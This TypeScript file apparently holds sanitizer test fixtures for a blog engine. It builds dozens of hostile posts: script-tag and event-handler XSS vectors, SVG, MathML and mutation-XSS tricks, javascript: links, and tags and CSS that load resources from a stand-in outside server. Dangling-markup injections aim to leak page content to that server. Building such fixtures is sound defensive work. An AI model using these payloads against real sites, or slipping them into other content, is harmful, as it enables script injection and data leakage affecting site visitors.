/**
 * What a hostile post would try. `fire` is a script without double quotes that tells that it ran;
 * `away` is a server that counts who asks it.
 */
interface Hostile {
  name: string;
  html: string;
  /** It swallows what stands after it, so it needs a post of its own. */
  alone?: boolean;
}

type Fire = (name: string) => string;

/** Scripts and handlers. */
function running(fire: Fire): [string, string][] {
  return [
    ['script', `<script>${fire('script')}</script>`],
    ['script in a block', `<div><script>${fire('script in a block')}</script></div>`],
    ['module', `<script type="module">${fire('module')}</script>`],
    ['onerror', `<img src="x" onerror="${fire('onerror')}">`],
    ['onload', `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${fire('onload')}">`],
    ['svg onload', `<svg onload="${fire('svg onload')}"></svg>`],
    ['svg script', `<svg><script>${fire('svg script')}</script></svg>`],
    ['svg script href', `<svg><script href="data:text/javascript,${fire('svg href')}"/></svg>`],
    [
      'svg animate',
      `<svg><animate onbegin="${fire('animate')}" attributeName="x" dur="1s"/></svg>`,
    ],
    ['svg set', `<svg><set onbegin="${fire('set')}" attributeName="x" to="1"/></svg>`],
    [
      'foreignObject',
      `<svg><foreignObject><img src="x" onerror="${fire('foreignObject')}"></foreignObject></svg>`,
    ],
    ['svg image', `<svg><image href="x" onerror="${fire('svg image')}"/></svg>`],
    ['mathml', `<math><mtext><img src="x" onerror="${fire('mathml')}"></mtext></math>`],
    ['ontoggle', `<details open ontoggle="${fire('ontoggle')}"><summary>x</summary></details>`],
    ['autofocus', `<input autofocus onfocus="${fire('autofocus')}">`],
    ['tabindex', `<p tabindex="0" autofocus onfocus="${fire('tabindex')}">x</p>`],
    ['onblur', `<input autofocus onblur="${fire('onblur')}"><input autofocus>`],
    [
      'animation',
      `<style>@keyframes pp-x{from{opacity:0}to{opacity:1}}</style><b style="animation:pp-x 1ms" onanimationstart="${fire('animation')}" onanimationend="${fire('animation')}">x</b>`,
    ],
    [
      'transition',
      `<b style="transition:opacity 1ms" ontransitionend="${fire('transition')}">x</b>`,
    ],
    ['marquee', `<marquee onstart="${fire('marquee')}">x</marquee>`],
    ['video', `<video src="x" onerror="${fire('video')}"></video>`],
    ['source', `<video><source src="x" onerror="${fire('source')}"></video>`],
    ['audio', `<audio src="x" onerror="${fire('audio')}"></audio>`],
    ['object', `<object data="data:text/html,<script>${fire('object')}</script>"></object>`],
    ['object onerror', `<object data="x" onerror="${fire('object onerror')}"></object>`],
    ['embed', `<embed src="data:text/html,<script>${fire('embed')}</script>">`],
    ['srcdoc', `<iframe srcdoc="<script>${fire('srcdoc')}</script>"></iframe>`],
    ['frame javascript', `<iframe src="javascript:${fire('frame javascript')}"></iframe>`],
    ['frame onload', `<iframe onload="${fire('frame onload')}"></iframe>`],
    ['frame data', `<iframe src="data:text/html,<script>${fire('frame data')}</script>"></iframe>`],
    ['link onerror', `<link rel="stylesheet" href="x" onerror="${fire('link onerror')}">`],
    ['style onload', `<style onload="${fire('style onload')}">b{}</style>`],
    [
      'onscroll',
      `<div onscroll="${fire('onscroll')}" style="height:9px;overflow:auto">a<br>b</div>`,
    ],
    ['use', `<svg><use href="data:image/svg+xml,<svg onload='${fire('use')}'/>#x"/></svg>`],
    [
      'noscript',
      `<noscript><p title="</noscript><img src=x onerror=${fire('noscript')}>"></noscript>`,
    ],
    ['template', `<template><img src="x" onerror="${fire('template')}"></template>`],
    [
      'mutation',
      `<math><mtext><table><mglyph><style><img title="</style><img src=x onerror=${fire('mutation')}>"></style></mglyph></table></mtext></math>`,
    ],
    ['markdown image', `![x](x"onerror="${fire('markdown image')})`],
    ['markdown title', `![x](x '" onerror="${fire('markdown title').replaceAll("'", '&#39;')}')`],
    ['body', `<body onload="${fire('body')}" onpageshow="${fire('body')}">`],
    ['frameset', `<frameset onload="${fire('frameset')}"><frame src="x"></frameset>`],
    [
      'popover',
      `<button popovertarget="pp-p">x</button><div popover id="pp-p" onbeforetoggle="${fire('popover')}">x</div>`,
    ],
  ];
}

/** What only fires when somebody clicks; each has the class "bait". */
function baits(fire: Fire, away: string): [string, string][] {
  const link = (name: string, href: string, more = '') =>
    [name, `<a class="bait" href="${href}"${more}>${name}</a>`] as [string, string];
  return [
    link('javascript', `javascript:${fire('javascript')}`),
    link('javascript in parts', `&#1;java&#10;script&#9;:${fire('javascript in parts')}`),
    link('JavaScript', `JaVaScRiPt:${fire('JavaScript')}`),
    link('vbscript', `vbscript:${fire('vbscript')}`),
    link('data', `data:text/html,<script>${fire('data')}</script>`),
    link('blob', `blob:${away}/blob`),
    link('top', '/', ' target="_top"'),
    link('parent', `${away}/parent`, ' target="_parent"'),
    link('blank', `${away}/blank`, ' target="_blank"'),
    link('ping', '#ping', ` ping="${away}/ping"`),
    link('download', `${away}/download`, ' download'),
    [
      'xlink',
      `<svg width="40" height="20"><a class="bait" xlink:href="javascript:${fire('xlink')}"><text y="15">xlink</text></a></svg>`,
    ],
    [
      'area',
      `<map name="m"><area class="bait" href="javascript:${fire('area')}" alt="area"></map>`,
    ],
    ['onclick', `<b class="bait" onclick="${fire('onclick')}">onclick</b>`],
    ['onpointerover', `<b class="bait" onpointerover="${fire('onpointerover')}">over</b>`],
    ['form', `<form action="${away}/form"><button class="bait">form</button></form>`],
    [
      'form javascript',
      `<form action="javascript:${fire('form javascript')}"><button class="bait">form</button></form>`,
    ],
    [
      'formaction',
      `<form><button class="bait" formaction="${away}/formaction">formaction</button></form>`,
    ],
    [
      'form top',
      `<form action="${away}/form-top" target="_top"><input type="submit" class="bait" value="top"></form>`,
    ],
    [
      'input image',
      `<form action="${away}/input-image"><input type="image" class="bait" src="x" alt="image"></form>`,
    ],
    [
      'markdown link',
      `[markdown](javascript:${fire('markdown link').replaceAll(/[()]/g, '\\$&')})`,
    ],
  ];
}

/** What asks another server for something. */
function asking(away: string): [string, string][] {
  return [
    ['picture', `<img src="${away}/picture">`],
    ['markdown picture', `![x](${away}/markdown-picture)`],
    ['srcset', `<img srcset="${away}/srcset 1x, ${away}/srcset2 2x">`],
    ['picture source', `<picture><source srcset="${away}/source"><img src="x"></picture>`],
    ['script src', `<script src="${away}/script.js"></script>`],
    ['stylesheet', `<link rel="stylesheet" href="${away}/x.css">`],
    ['prefetch', `<link rel="prefetch" href="${away}/prefetch">`],
    ['preload', `<link rel="preload" as="image" href="${away}/preload">`],
    ['modulepreload', `<link rel="modulepreload" href="${away}/modulepreload">`],
    ['preconnect', `<link rel="preconnect" href="${away}/">`],
    ['icon', `<link rel="icon" href="${away}/icon">`],
    ['manifest', `<link rel="manifest" href="${away}/manifest">`],
    ['import', `<style>@import url(${away}/import.css);</style>`],
    [
      'font',
      `<style>@font-face{font-family:pp-f;src:url(${away}/font)}.pp-f{font-family:pp-f}</style><b class="pp-f">x</b>`,
    ],
    ['css background', `<style>article{background:url(${away}/background)}</style>`],
    ['css cursor', `<b style="cursor:url(${away}/cursor),auto">x</b>`],
    ['style attribute', `<b style="background:url(${away}/style)">x</b>`],
    ['list-style', `<ul style="list-style:url(${away}/list-style)"><li>x</li></ul>`],
    ['border-image', `<b style="border:9px solid;border-image:url(${away}/border) 1">x</b>`],
    ['mask', `<b style="mask:url(${away}/mask)">x</b>`],
    ['content', `<style>.pp-c::before{content:url(${away}/content)}</style><b class="pp-c">x</b>`],
    ['attribute selector', `<style>article[id^="p"]{background-image:url(${away}/leak)}</style>`],
    ['table background', `<table background="${away}/table"><tr><td>x</td></tr></table>`],
    ['frame', `<iframe src="${away}/frame"></iframe>`],
    ['object data', `<object data="${away}/object"></object>`],
    ['embed src', `<embed src="${away}/embed">`],
    ['video src', `<video src="${away}/video" autoplay></video>`],
    ['poster', `<video poster="${away}/poster"></video>`],
    ['audio src', `<audio src="${away}/audio" autoplay></audio>`],
    ['track', `<video src="x"><track default src="${away}/track"></video>`],
    ['svg image href', `<svg><image href="${away}/svg-image" width="9" height="9"/></svg>`],
    ['svg use href', `<svg><use href="${away}/use#x"/></svg>`],
    [
      'svg filter',
      `<svg><filter id="f"><feImage href="${away}/feimage"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    ],
    ['input picture', `<input type="image" src="${away}/input">`],
    ['body background', `<body background="${away}/body">`],
    ['meta refresh', `<meta http-equiv="refresh" content="0; url=${away}/refresh">`],
    ['meta policy', `<meta http-equiv="Content-Security-Policy" content="img-src *">`],
    ['base', `<base href="${away}/base/"><img src="relative">`],
    ['portal', `<portal src="${away}/portal"></portal>`],
    [
      'speculation',
      `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${away}/speculation"]}]}</script>`,
    ],
  ];
}

/** What leaves something open, so that what follows becomes part of it. */
function dangling(fire: Fire, away: string): [string, string][] {
  return [
    ['dangling picture', `<img src='${away}/dangling?`],
    ['dangling textarea', `<form action="${away}/textarea"><textarea>`],
    ['dangling style', `<style>article{background:url(${away}/dangling-style)}`],
    ['dangling comment', `<!-- <img src="x" onerror="${fire('comment')}">`],
    ['dangling title', `<title><img src="x" onerror="${fire('title')}"></title><title>`],
    ['plaintext', `<plaintext><img src="x" onerror="${fire('plaintext')}">`],
    ['breaking out', `</article></body></html><img src="x" onerror="${fire('breaking out')}">`],
    ['template left open', `<template><script>${fire('template open')}</script>`],
    ['select', `<select><option><img src="x" onerror="${fire('select')}">`],
    ['svg left open', `<svg><style><img src="x" onerror="${fire('svg open')}">`],
  ];
}

/** All of it; `away` is a server's address without a slash at its end. */
export function hostilePosts(away: string, fire: Fire): Hostile[] {
  const named = (list: [string, string][], more: Partial<Hostile> = {}) =>
    list.map(([name, html]): Hostile => ({ name, html, ...more }));
  return [
    ...named(running(fire)),
    ...named(baits(fire, away)),
    ...named(asking(away)),
    ...named(dangling(fire, away), { alone: true }),
  ];
}

export function postOf(title: string, parts: readonly Hostile[]): string {
  const body = parts.map(({ html }) => html).join('\n\n');
  return `---\ntitle: "${title}"\ndate: "2024-01-01 10:00"\n---\n\nThe beginning.\n\n${body}\n\nThe end.\n`;
}
